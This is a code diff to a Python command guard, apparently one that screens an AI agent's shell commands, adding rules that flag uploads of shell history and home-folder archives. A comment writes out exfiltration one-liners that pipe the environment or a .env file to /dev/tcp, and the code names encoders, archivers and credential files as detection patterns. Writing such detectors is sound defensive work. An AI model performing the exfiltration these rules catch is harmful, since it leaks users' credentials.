@@ -21,7 +21,7 @@ from __future__ import annotations
 import os
 
 from agentreflex.gate.model import SECRET, UNKNOWN, Cmd, Hit
-from agentreflex.gate.shell.paths import Where, classify, is_secret_file
+from agentreflex.gate.shell.paths import Where, classify, is_history_file, is_secret_file
 
 _ENCODERS = frozenset({"base64", "base32", "basenc", "xxd", "od", "hexdump", "uuencode"})
 _CLIPBOARDS = frozenset({"pbcopy", "xclip", "xsel", "wl-copy", "clip", "clip.exe"})
@@ -88,14 +88,14 @@ def pipeline_hits(cmds: list[Cmd], where: Where) -> list[Hit]:
     hits: list[Hit] = []
     tainted: dict[str, str] = {}  # files a source wrote in this command -> what they hold
     for cmd in cmds:
-        what = source_of(cmd, where)
+        what = source_of(cmd, where, network=True)
         if what:
             for op, target in cmd.redirects:
                 if op in (">", ">>", ">|", "&>"):
                     tainted[classify(target, where, cmd.cwd)[1]] = what
         socket = to_socket(cmd)
         if socket:  # env > /dev/tcp/H/P, cat .env | base64 > /dev/tcp/H/P
-            sent = what or _piped_source(cmd, where)
+            sent = what or _piped_source(cmd, where, network=True)
             if sent:
                 hits.append(
                     _hit(
@@ -106,9 +106,11 @@ def pipeline_hits(cmds: list[Cmd], where: Where) -> list[Hit]:
                 )
         if cmd.name in _COPIERS:
             tainted.update(_copied(cmd, where))
-        if cmd.name in NET and tainted:
+        if cmd.name in NET:
             sent = _uploads(cmd, where, tainted)
-            if sent:
+            if sent == HISTORY:
+                hits.append(_hit(cmd, _HISTORY_SENT))
+            elif sent:
                 hits.append(
                     _hit(
                         cmd,
@@ -117,7 +119,7 @@ def pipeline_hits(cmds: list[Cmd], where: Where) -> list[Hit]:
                     )
                 )
         if cmd.name in NET and reads_stdin(cmd) and not _dumps_env(cmd.stdin_from):
-            source = _piped_source(cmd, where)  # (whole-environment pipes: secrets.py)
+            source = _piped_source(cmd, where, network=True)  # (environment pipes: secrets.py)
             if source and not (source[:1] == "$" and sent_to_own_service(cmd, source[1:])):
                 hits.append(
                     _hit(
@@ -194,10 +196,13 @@ def _uploads(cmd: Cmd, where: Where, tainted: dict[str, str]) -> str:
         full = classify(n, where, cmd.cwd)[1]
         if full in tainted:
             return tainted[full]
+        if is_history_file(full):
+            return HISTORY
     return ""
 
 
 _COPIERS = frozenset({"cp", "mv", "install", "ln", "rsync", "tar", "zip", "7z", "gpg", "gpg2"})
+_FOLDER_ARCHIVERS = frozenset({"tar", "zip", "7z", "cpio"})  # they take a folder whole
 
 
 def _copied(cmd: Cmd, where: Where) -> dict[str, str]:
@@ -239,8 +244,14 @@ def _copied(cmd: Cmd, where: Where) -> dict[str, str]:
         outs = given or [f"{s}{ext}" for s in sources for ext in (".gpg", ".asc")]
     for src in sources:
         full = classify(src, where, cmd.cwd)[1]
+        what = ""
         if is_secret_file(full) or os.path.basename(full.rstrip("/")) in _CRED_DIRS:
             what = f"{src} (credentials)"
+        elif name in _FOLDER_ARCHIVERS and _holds_home(full, where):
+            what = HOME_HELD
+        elif is_history_file(full):
+            what = HISTORY  # a copy is judged only when it is uploaded
+        if what:
             return {classify(o, where, cmd.cwd)[1]: what for o in outs if o}
     return {}
 
@@ -280,22 +291,47 @@ def _is_sink(cmd: Cmd) -> bool:
     return cmd.name == "openssl" and cmd.args[:1] in (["base64"], ["enc"])
 
 
-def _piped_source(sink: Cmd, where: Where) -> str:
+def _piped_source(sink: Cmd, where: Where, network: bool = False) -> str:
     src = sink.stdin_from
     for _ in range(16):
         if src is None:
             return ""
-        what = source_of(src, where)
+        what = source_of(src, where, network)
         if what:
             return what
         src = src.stdin_from
     return ""
 
 
-def source_of(cmd: Cmd, where: Where) -> str:
-    """What credential ``cmd`` writes to its stdout (``""`` when none)."""
+HISTORY = "the shell history (where passwords and tokens typed on a command line stay)"
+HOME_HELD = "the home folder (which holds ~/.ssh and ~/.aws)"
+
+
+_HISTORY_SENT = (
+    f"This sends {HISTORY} off the machine: every password, token and connection string "
+    "ever typed on a command line would be readable there. Send only the lines you need, "
+    "with their secrets removed, or ask the user."
+)
+
+
+def _holds_home(full: str, where: Where) -> bool:
+    """The home folder, or a folder above it: an archive of it holds every credential."""
+    top, home = full.rstrip("/") or "/", where.home.rstrip("/")
+    return bool(home) and (top == home or home.startswith(top.rstrip("/") + "/"))
+
+
+def source_of(cmd: Cmd, where: Where, network: bool = False) -> str:
+    """What credential ``cmd`` writes to its stdout (``""`` when none).  With ``network``
+    (the output is sent off the machine) the shell history counts too: reading it is
+    everyday work, sending it is not (https://attack.mitre.org/techniques/T1552/003/)."""
     if cmd.name in _DUMPERS and cmd.args in _DUMP_OPTIONS:
         return "the whole environment (which holds credentials)"
+    if (
+        network
+        and cmd.name in ("history", "fc")
+        and not any(a.startswith("-") and set(a[1:]) & set("cdrwe") for a in cmd.args)
+    ):
+        return HISTORY
     from agentreflex.gate.rules.secrets import secret_named
 
     if cmd.name == "printenv" and any(secret_named(a) for a in cmd.args):
@@ -313,6 +349,10 @@ def source_of(cmd: Cmd, where: Where) -> str:
         readers = cmd.name in _ARCHIVERS or cmd.name in _ENCODERS
         if readers and (is_secret_file(full) or os.path.basename(full.rstrip("/")) in _CRED_DIRS):
             return f"{f} (credentials)"
+        if cmd.name in _FOLDER_ARCHIVERS and _holds_home(full, where):
+            return HOME_HELD
+        if network and readers and is_history_file(full):
+            return HISTORY
     from agentreflex.gate.rules.secrets import secret_fetcher, secret_printer
 
     return secret_printer(cmd) or secret_fetcher(cmd)
@@ -336,7 +376,7 @@ def _network(cmd: Cmd, cmds: list[Cmd], where: Where) -> list[Hit]:
     if any(UNKNOWN in a for a in body):
         for other in cmds:
             if other.via == "substitution" and other is not cmd:
-                what = source_of(other, where)
+                what = source_of(other, where, network=True)
                 if what:
                     hits.append(
                         _hit(
